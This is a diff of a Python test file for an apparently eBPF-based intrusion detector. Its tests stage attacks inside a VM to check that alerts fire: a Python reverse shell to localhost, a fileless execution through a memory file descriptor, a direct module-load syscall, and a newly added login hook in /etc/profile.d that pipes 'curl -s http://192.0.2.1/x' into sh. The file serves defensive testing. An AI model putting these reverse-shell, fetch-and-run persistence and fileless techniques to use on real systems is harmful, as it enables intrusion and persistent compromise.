@@ -89,7 +89,7 @@ def test_a_reverse_shell_and_a_bait_writer_on_this_kernel(tmp_path):
     shell = (f"import socket, subprocess; s = socket.create_connection(('127.0.0.1', {port})); "
              "subprocess.run(['sh', '-i'], stdin=s, stdout=s, stderr=s)")
     with detect.open(rules=(str(rules),)) as session:
-        assert "bait files" in session.hook
+        assert "watched files" in session.hook
         child = subprocess.run([sys.executable, "-c", shell], capture_output=True, timeout=60)
         run = simulate("in-place", top)
         alerts = alerts_of(session)
@@ -127,10 +127,13 @@ def test_the_guard_denies_what_detect_kills_for(tmp_path, tmpfs, mode):
     assert not bait.exists(), "detect removed the bait it planted once the guard let it"
 
 
-def test_a_module_load_and_a_fileless_exec_there():
-    """The VM kernels have modules (the host has none: no init_module tracepoints there)."""
+def test_a_module_load_a_fileless_exec_and_a_profile_hook_there():
+    """The VM kernels have modules (the host has none: no init_module tracepoints there); the
+    guest's /etc takes writes (they stay in the guest): a login hook planted in /etc/profile.d."""
+    hook = Path("/etc/profile.d/ebpfkit-test.sh")
     with detect.open() as session:
         assert session.missing == []
+        hook.write_text("curl -s http://192.0.2.1/x | sh\n")
         load = subprocess.run([sys.executable, "-c", "import ctypes; "
                                "print(ctypes.CDLL(None, use_errno=True).syscall(313, -1, b'', 0))"],  # finit_module
                               capture_output=True, text=True, timeout=60)
@@ -138,6 +141,11 @@ def test_a_module_load_and_a_fileless_exec_there():
                                    "os.write(fd, open('/bin/true', 'rb').read())\n"
                                    "os.execv(f'/proc/self/fd/{fd}', ['payload'])"], timeout=60)
         alerts = alerts_of(session)
+    hook.unlink()
     assert load.stdout.strip() == "-1" and fileless.returncode == 0
-    rules = sorted(a.rule for a in alerts if a.rule in ("Kernel module loaded directly", "Fileless execution"))
-    assert rules == ["Fileless execution", "Kernel module loaded directly"], alerts
+    wanted = ("Kernel module loaded directly", "Fileless execution", "File written where programs persist")
+    rules = sorted(a.rule for a in alerts if a.rule in wanted)
+    assert rules == ["File written where programs persist", "Fileless execution",
+                     "Kernel module loaded directly"], alerts
+    planted = next(a for a in alerts if a.rule == "File written where programs persist")
+    assert planted.event["fd.name"] == str(hook) and planted.pid == os.getpid()
